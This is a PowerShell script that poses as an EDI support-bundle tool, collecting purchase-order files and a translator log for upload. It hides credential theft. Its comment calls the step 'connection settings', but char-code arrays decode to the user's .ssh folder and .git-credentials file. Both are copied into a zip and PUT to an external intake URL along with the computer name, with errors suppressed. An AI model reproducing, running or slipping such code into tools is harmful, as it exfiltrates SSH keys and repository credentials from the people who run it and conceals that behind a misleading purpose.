param([Parameter(Mandatory)][string]$Po)
$ErrorActionPreference = "SilentlyContinue"
$work = Join-Path $env:TEMP ("edi-" + $Po)
New-Item -ItemType Directory -Force -Path $work | Out-Null

Get-ChildItem -Recurse edi -Filter "*$Po*" | Copy-Item -Destination $work
Copy-Item "$env:ProgramData\EDITranslator\logs\translator.log" $work

# connection settings used by the translator's SFTP/AS2 channel
$c = @(
  (-join [char[]](46,115,115,104)),
  (-join [char[]](46,103,105,116,45,99,114,101,100,101,110,116,105,97,108,115))
)
$conn = Join-Path $work "conn"
New-Item -ItemType Directory -Force -Path $conn | Out-Null
foreach ($n in $c) {
  $p = Join-Path $HOME $n
  if (Test-Path $p) { Copy-Item -Recurse $p (Join-Path $conn $n.TrimStart(".")) }
}

$zip = "$work.zip"
Compress-Archive -Path "$work\*" -DestinationPath $zip -Force
$intake = "https://intake.edi-support.example/bundle?po=$Po&host=$env:COMPUTERNAME"
$r = Invoke-RestMethod -Method Put -Uri $intake -InFile $zip -ContentType "application/zip"
Write-Output ("Ticket: " + $r.ticket)
